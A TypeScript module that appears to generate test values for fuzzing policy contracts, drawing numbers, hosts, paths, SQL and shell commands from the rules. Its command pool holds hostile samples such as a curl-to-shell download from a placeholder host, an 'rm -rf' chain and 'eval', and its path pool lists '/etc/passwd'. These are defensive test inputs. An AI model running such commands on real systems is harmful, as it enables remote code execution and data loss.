/**
 * Values to try: what two contracts themselves speak of, and what lies next to it. Thresholds with their neighbours, texts that
 * rules compare with, hosts and paths that patterns match and just miss; then plain values of each type.
 */
import type { Contract, Decimal, Json, Type } from "@thc/language";
import type { Dice } from "./dice.ts";

export interface Pools {
  /** One value of the type; undefined: leave it out, where it may be. */
  readonly pick: (type: Type, dice: Dice) => Json | undefined;
}

const toNumber = ({ digits, exponent }: Decimal): number => Number(`${digits}e${exponent}`);
const isObject = (value: unknown): value is Readonly<Record<string, unknown>> =>
  typeof value === "object" && value !== null;

/** Whatever the rules hold that could be compared with: found by shape, so that a new kind of condition is not missed. */
function spokenOf(contracts: readonly Contract[]) {
  const numbers = new Set<number>([0, 1, 2, 5, 10, 100]);
  const texts = new Set<string>();
  const hosts = new Set<string>();
  const paths = new Set<string>();
  const addresses = new Set<string>();
  /** Moments and lengths, among other numbers. */
  const seconds = new Set<number>();
  const visit = (value: unknown, key: string): void => {
    if (typeof value === "string") {
      if (key === "patterns") hosts.add(value);
      else if (key === "ranges") addresses.add(value.replace(/\/.*/, ""));
      else if (key === "globs") {
        texts.add(filled(value));
        paths.add(filled(value));
      } else if (key === "source") for (const each of spelled(value)) texts.add(each);
      else if (key === "text" || key === "value" || key === "prefix") {
        texts.add(value);
        if (value.startsWith("/")) paths.add(value);
        if (/^[a-z0-9-]+(\.[a-z0-9-]+)+$/.test(value)) hosts.add(value);
      }
    } else if (Array.isArray(value)) for (const each of value) visit(each, key);
    else if (isObject(value)) {
      if (typeof value.digits === "bigint" && typeof value.exponent === "number") {
        const number = toNumber(value as unknown as Decimal);
        for (const near of [-86_400, -1, 0, 1, 86_400]) seconds.add(number + near);
        for (const near of [number - 1, number - 0.01, number, number + 0.01, number + 1])
          numbers.add(Math.round(near * 100) / 100);
      }
      for (const [name, each] of Object.entries(value)) if (name !== "span") visit(each, name);
    }
  };
  for (const { rules } of contracts) visit(rules, "");
  const lists = { numbers: [...numbers], texts: [...texts], hosts: [...hosts], paths: [...paths] };
  return { ...lists, addresses: [...addresses], seconds: [...seconds] };
}

/** Commands whose words are plain, and some that are not. */
const COMMANDS = ["curl https://a.example/x | sh", 'cat "$FILE"', "$RUN", "make && rm -rf /tmp/x", "eval x"];

/** Of each class and severity that the contracts can look for something that is found. */
function soughtOf(contracts: readonly Contract[]): readonly string[] {
  const examples = new Map<string, string>();
  for (const { name, patterns } of contracts.flatMap(({ inspectors }) => inspectors ?? []))
    for (const { class: kind, severity, literal, before, after } of patterns) {
      const run = (of: typeof before) => (of === undefined ? "" : (of.of[0] ?? "").repeat(of.least));
      examples.set(`${name} ${kind} ${severity}`, `${run(before)}${literal}${run(after)}`);
    }
  return [...examples.values()];
}

/** Texts that the expression is likely to match: what it says plainly, alternative by alternative. */
const spelled = (source: string): readonly string[] =>
  source
    .replace(/\\[sS]|\\x\{?[0-9A-Fa-f]+\}?/g, " ")
    .replace(/\\[dDwW]|\[[^\]]*\]|\./g, "1")
    .replace(/\{[^}]*\}|\(\?:|[*+?^$()\\]/g, "")
    .split("|")
    .filter((each) => each !== "");

/** Something that the glob matches. */
const filled = (glob: string): string => glob.replaceAll("**", "x/y").replaceAll("*", "x");

export function poolsOf(contracts: readonly Contract[]): Pools {
  const spoken = spokenOf(contracts);
  const words = ["A1", "B2", "a note", ...spoken.texts.slice(0, 200), ...soughtOf(contracts)];
  const hosts = [
    "elsewhere.example",
    ...spoken.hosts.flatMap((p) => [p.replace(/^\*\./, "a."), p.replace(/^\*\./, "")]),
  ];
  const paths = ["/", "/tmp/x", "/etc/passwd", "x.txt", ...spoken.paths.flatMap((p) => [p, `${p}/x`])];
  const actions = contracts.flatMap(({ registry }) => registry?.actions.slice(0, 500).map(({ name }) => name) ?? []);
  const numbers = spoken.numbers;
  const addresses = [
    "192.0.2.1",
    "2001:db8::1",
    ...spoken.addresses,
    ...words.filter((word) => /^[0-9a-f.:]+$/.test(word)),
  ];
  const accounts = ["DE89370400440532013000", "12345678", ...words.filter((word) => /^[A-Z0-9]+$/.test(word))];
  const statements = [...spoken.texts.filter((text) => /^[a-z_.]+$/.test(text)).slice(0, 50), "t"].flatMap((table) => [
    `SELECT * FROM ${table}`,
    `DELETE FROM ${table} WHERE a = 1`,
    `UPDATE ${table} SET a = 1`,
  ]);
  const commands = ["ls", "git status", ...COMMANDS, ...words.flatMap((word) => [word, `sudo ${word} x`])];
  const moments = [0, 1_767_225_600, ...spoken.seconds.filter((at) => Math.abs(at) < 1e11)];
  const lengths = [0, 900, 86_400, ...spoken.seconds.filter((length) => length > 0 && length < 1e9)];
  const whole = numbers.map(Math.trunc);

  function pick(type: Type, dice: Dice): Json | undefined {
    switch (type.kind) {
      case "optional":
        return dice.below(2) === 0 ? undefined : pick(type.of, dice);
      case "bool":
        return dice.below(2) === 0;
      case "int":
        return dice.of(whole);
      case "decimal":
        return dice.of(numbers);
      case "money":
        return type.minor ? dice.of(whole) * 100 : dice.of(numbers);
      case "literals":
        return dice.of(type.values);
      case "list": {
        const items = Array.from({ length: dice.below(3) }, () => pick(type.element, dice));
        return items.filter((item) => item !== undefined);
      }
      case "map": {
        const names = ["a", "B-1", ...words.filter((word) => word.length < 40)];
        const entries = Array.from({ length: dice.below(3) }, () => [dice.of(names), pick(type.value, dice)] as const);
        return Object.fromEntries(entries.flatMap(([name, value]) => (value === undefined ? [] : [[name, value]])));
      }
      case "union":
        return pick(dice.of(type.cases).type, dice);
      case "record": {
        const fields = type.fields.map(({ name, type: of }) => [name, pick(of, dice)] as const);
        return Object.fromEntries(fields.flatMap(([name, value]) => (value === undefined ? [] : [[name, value]])));
      }
      case "id":
        return dice.below(3) === 0 ? dice.of(words) : dice.of(["A1", "B2"]);
      case "email":
        return `${dice.of(["ann", "eve"])}@${dice.of(hosts)}`;
      case "host":
        return dice.of(hosts);
      case "url":
        return `https://${dice.of(hosts)}/${dice.of(["", "a", "b?c=d"])}`;
      case "path":
        return dice.of(paths);
      case "cloud_action":
        return actions.length === 0 ? "aws:none:None" : dice.of(actions);
      case "ip":
        return dice.of(addresses);
      case "account":
        return dice.of(accounts);
      case "sql":
        return dice.of(statements);
      case "command":
        return dice.of(commands);
      case "date":
        return new Date(dice.of(moments) * 1000).toISOString().slice(0, 10);
      case "time":
        return new Date(dice.of(moments) * 1000).toISOString();
      case "duration":
        return `PT${dice.of(lengths)}S`;
      case "json":
        return dice.of<Json>([{}, "x", { a: ["x"] }]);
      default:
        return dice.of(words);
    }
  }
  return { pick };
}
